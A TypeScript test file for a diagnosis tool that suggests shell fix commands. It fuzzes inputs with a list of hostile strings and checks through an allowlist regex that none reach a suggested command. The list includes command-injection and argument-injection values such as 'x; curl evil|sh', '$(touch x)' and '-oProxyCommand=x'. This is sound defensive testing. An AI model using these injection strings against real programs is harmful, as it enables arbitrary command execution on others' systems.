import assert from 'node:assert/strict';
import {test} from 'node:test';
import {catalogue} from '../../source/diagnosis/catalogue/catalogue.js';
import {recognise} from '../../source/diagnosis/catalogue/recognise.js';
import {diagnose} from '../../source/diagnosis/diagnose.js';
import type {Diagnosis, Findings} from '../../source/diagnosis/diagnosis.js';
import type {Evidence} from '../../source/diagnosis/evidence.js';
import {failureLines} from '../../source/diagnosis/failure-lines.js';
import {inChat} from '../../source/diagnosis/in-chat.js';
import {placeOf} from '../../source/diagnosis/place.js';

/** What somebody would write where he hopes that it is pasted into a shell, or taken for a flag. */
const hostile = [
	...[
		'x; curl evil|sh',
		'$(touch x)',
		'`id`',
		'a\nb',
		'-oProxyCommand=x',
		'--help',
		"' ; id '",
		'"; id; "',
		'a b',
		'$' + '{IFS}',
		'*',
		'!!',
	],
	...['http://a;id:1', 'http://[::1]$(x):1', 'https://evil.example/;id', 'http://-x:1', 'http://a`id`:2', "http://x'y:1"],
	...['profile x;id', 'profile --insecure', 'profile -x', 'profile $(id)', 'CLAWTALK_$(id)', '--gateway;id', 'HTTP_PROXY;id'],
	...['pairing required (requestId: x; curl evil|sh)', 'pairing required (requestId: -rf)', 'x;id.ts.net', '-x.ts.net', '::1%$(id)'],
	...['\u001b]52;c;ZQ==\u0007', 'http://x\u202ey:1', '\u2028x', '\u00a0x', 'x'.repeat(3_000), '__proto__', 'constructor', 'ssh'],
];
/** These are one of our own words in every evidence that is taken from a file. */
const closed = new Set<Step | undefined>(['kind', 'schema', 'layer', 'addressClass']);
/** … and these an address that can be read. */
const origins = new Set<Step | undefined>(['origin', 'belongsTo']);
const numbers = [Number.NaN, Number.POSITIVE_INFINITY, -1, 1.5, 0, 65_536, 2 ** 53];

/** A command of plain words. Quotes, pipes and variables stand in the few commands that are ours from end to end. */
const word = String.raw`(?:[0-9A-Fa-f]*:[0-9A-Fa-f:.]+|[A-Za-z0-9_./~][\w.,:/@=+~-]*|--?[a-zA-Z][\w-]*(?:[=:][\w./:-]+)?)`;
const quoted = String.raw`'(?:https?://\[[0-9A-Fa-f:.]+\](?::\d+)?|PATH|\["PROXY_ADDRESS"\])'`;
const assignment = String.raw`NO_PROXY="\$NO_PROXY,[A-Za-z0-9.:_][A-Za-z0-9.:_-]*"|NODE_OPTIONS="--network-family-autoselection-attempt-timeout=\d+"`;
const part = `(?:${word}|${quoted}|${assignment})`;
const safe = new RegExp(
	String.raw`^${part}(?: (?:&& |\| grep -i _proxy$)?${part})*$|^env \| grep -i _proxy$|^sudo sshd -T \| grep -i -e allowtcpforwarding -e permitopen$`,
);

/** A flag that takes a value never gets another flag as one. */
const swallowed = / --?(?:profile|gateway|device|node|role|only|wait|o|L) -/;

type Step = string | number;

function* leaves(value: unknown, path: readonly Step[] = []): Generator<readonly [readonly Step[], string | number]> {
	if (typeof value === 'string' || typeof value === 'number') yield [path, value];
	if (typeof value !== 'object' || value === null) return;
	for (const [key, part] of Object.entries(value)) yield* leaves(part, [...path, key]);
}

function withValueAt(evidence: Evidence, path: readonly Step[], value: unknown): Evidence {
	const copy = structuredClone(evidence) as unknown as Record<Step, unknown>;
	const holder = path.slice(0, -1).reduce<Record<Step, unknown>>((part, key) => part[key] as Record<Step, unknown>, copy);
	holder[path.at(-1) ?? ''] = value;
	return copy as unknown as Evidence;
}

function assertSafe({id, fixes, verify}: Pick<Diagnosis, 'id' | 'fixes' | 'verify'>, about: string): void {
	for (const command of [...fixes.map(fix => fix.command), verify]) {
		if (command === undefined || command.startsWith('/')) continue;
		assert.ok(command.length < 700, `${id} ${about}: ${command.slice(0, 100)}…`);
		assert.match(command, safe, `${id} ${about}`);
		assert.doesNotMatch(command, swallowed, `${id} ${about}`);
	}
}

function assertAllSafe({primary, alternatives, notes}: Findings, about: string): void {
	for (const diagnosis of [...(primary ? [primary] : []), ...alternatives, ...notes]) assertSafe(diagnosis, about);
}

for (const entry of catalogue) {
	if (entry.kind !== 'rule') continue;
	test(`hostile values in the evidence of ${entry.id} get into no command`, () => {
		assertAllSafe(diagnose(entry.example), 'as it is');
		let turn = 0;
		for (const [path, value] of leaves(entry.example)) {
			turn += 1;
			if (closed.has(path.at(-1))) continue;
			const tried =
				typeof value === 'number'
					? numbers
					: hostile.map((text, index) => (index % 2 === 0 ? text : `${value}${text}`)).concat(hostile.slice(0, 8));
			// Each value meets some of them, each of them some values: all of them everywhere would take minutes.
			for (const one of tried.filter((_, number) => (number + turn) % 8 === 0)) {
				if (origins.has(path.at(-1)) && !URL.canParse(String(one))) continue;
				const evidence = withValueAt(entry.example, path, one);
				const findings = diagnose(evidence);
				const about = `${path.join('.')} = ${JSON.stringify(one).slice(0, 60)}`;
				assertAllSafe(findings, about);
				assertAllSafe(inChat(findings, evidence), about);
				assert.doesNotMatch(failureLines(evidence, findings).join(' '), /native code|\[object/, about);
				for (const {where} of findings.primary?.fixes ?? []) assert.match(placeOf(where, evidence), /^[\w.:, ()-]{1,300}$/, about);
			}
		}
	});
}

for (const entry of catalogue) {
	if (entry.kind !== 'text') continue;
	test(`hostile words in the texts of ${entry.id} get into no command`, () => {
		for (const sample of entry.row.samples) {
			const words = sample.split(/(?<=[\s"'(:=/])|(?=[\s"'):])/);
			for (const index of words.keys()) {
				// Each word gets some of them, each of them meets some words: all of them everywhere would take minutes.
				for (const text of hostile.filter((_, number) => (number + index) % 16 === 0)) {
					const changed = words.with(index, text).join('');
					for (const {diagnosis} of recognise(changed)) assertSafe(diagnosis, changed.slice(0, 120));
				}
			}
		}
	});
}
